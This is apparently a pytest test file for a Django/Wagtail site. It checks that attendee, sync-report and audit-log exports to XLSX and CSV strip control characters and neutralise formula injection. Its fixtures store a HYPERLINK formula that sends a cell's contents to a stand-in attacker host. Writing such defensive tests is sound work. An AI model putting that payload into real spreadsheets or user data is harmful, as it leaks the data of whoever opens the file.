"""Exports never fail on stored data, and a spreadsheet never runs what a visitor typed."""

import csv
import io

import pytest
from django.apps import apps
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from distro.core import exports

HOSTILE_NAME = "Jan\x07 de\x1b Vries\x00"  # control characters XLSX cannot hold
FORMULA = '=HYPERLINK("https://aanvaller.example/?d="&A2,"klik")'


def xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_cells(content: bytes, delimiter=";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


# --- The shared helper ----------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+31 6 12345678", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_prefixes_get_an_apostrophe(value):
    assert exports.formula_safe(value) == "'" + value


def test_numbers_and_ordinary_text_stay_as_they_are():
    assert exports.spreadsheet_safe(-2) == -2
    assert exports.spreadsheet_safe("Fatima de Vries") == "Fatima de Vries"
    # Tab, newline and carriage return inside a text are fine in XLSX.
    assert exports.xlsx_safe("regel 1\nregel 2\tkolom") == "regel 1\nregel 2\tkolom"


def test_xlsx_response_holds_any_stored_text():
    response = exports.xlsx_response("x.xlsx", "Blad\x01", ["Naam"], [[HOSTILE_NAME], [FORMULA], ["\ud800los"]])
    assert xlsx_cells(response.content) == [["Naam"], ["Jan de Vries"], ["'" + FORMULA], ["los"]]
    assert response["Cache-Control"] == "no-store, private"


# --- The agenda's attendee export ------------------------------------------------------------


@pytest.fixture
def hostile_registrations(bijeenkomst):
    from plugins.agenda.models import Aanmelding

    # Stored as they might be by an older version, an import or the shell: the
    # export must cope with whatever is in the database.
    Aanmelding.objects.create(
        bijeenkomst=bijeenkomst,
        status="bevestigd",
        role="ouder",
        name=HOSTILE_NAME.replace("\x00", ""),
        email="jan@example.org",
    )
    Aanmelding.objects.create(
        bijeenkomst=bijeenkomst, status="bevestigd", role="ouder", name=FORMULA, email="aanval@example.org"
    )
    return bijeenkomst


def steunpunt_client(user):
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


@pytest.mark.django_db
def test_attendee_xlsx_export_with_control_characters_in_a_name(hostile_registrations, steunpunt_medewerker):
    response = steunpunt_client(steunpunt_medewerker).get(
        reverse("agenda_admin:export", args=[hostile_registrations.pk, "xlsx"])
    )
    assert response.status_code == 200
    names = [row[0] for row in xlsx_cells(response.content)[1:]]
    assert names == ["Jan de Vries", "'" + FORMULA]


@pytest.mark.django_db
def test_attendee_csv_export_is_formula_safe(hostile_registrations, steunpunt_medewerker):
    response = steunpunt_client(steunpunt_medewerker).get(
        reverse("agenda_admin:export", args=[hostile_registrations.pk, "csv"])
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_cells(response.content)
    assert [row[0] for row in rows[1:]] == ["Jan de Vries", "'" + FORMULA]
    assert all(not cell.startswith(exports.FORMULA_PREFIXES) for row in rows for cell in row)


# --- Wagtail's own exports (the informatieset's sync report, the audit log) ------------------


@pytest.fixture
def hostile_sync_run(site):
    if not apps.is_installed("plugins.informatieset_sync"):
        pytest.skip("de informatieset-plugin staat niet aan")
    from plugins.informatieset_sync.models import SyncRun

    # The error text comes from a feed the site does not control.
    return SyncRun.objects.create(
        source="https://bron.example/feed.json", status="failed", error=f"{FORMULA}\x01\x02", error_item="-item"
    )


@pytest.mark.django_db
def test_sync_report_xlsx_export_with_control_characters(hostile_sync_run, superuser):
    response = steunpunt_client(superuser).get(reverse("informatieset_sync_admin:sync_runs") + "?export=xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [c for row in xlsx_cells(content)[1:] for c in row]
    assert FORMULA in cells or "'" + FORMULA in cells
    assert not any(isinstance(c, str) and "\x01" in c for c in cells)


@pytest.mark.django_db
def test_sync_report_csv_export_is_formula_safe(hostile_sync_run, superuser):
    response = steunpunt_client(superuser).get(reverse("informatieset_sync_admin:sync_runs") + "?export=csv")
    assert response.status_code == 200
    # Wagtail's own CSV: comma-separated.
    rows = csv_cells(b"".join(response.streaming_content), delimiter=",")
    cells = [c for row in rows[1:] for c in row]
    assert "'-item" in cells
    assert not any(c.startswith(exports.FORMULA_PREFIXES) for c in cells)


@pytest.mark.django_db
def test_audit_log_xlsx_export_with_a_control_character_in_a_page_title(home, superuser):
    from wagtail.log_actions import log

    home.title = "Welkom\x0b thuis"
    home.save_revision(user=superuser, log_action=True)
    log(instance=home, action="wagtail.edit", user=superuser)
    response = steunpunt_client(superuser).get(reverse("wagtailadmin_reports:site_history") + "?export=xlsx")
    assert response.status_code == 200
    xlsx_cells(b"".join(response.streaming_content) if response.streaming else response.content)
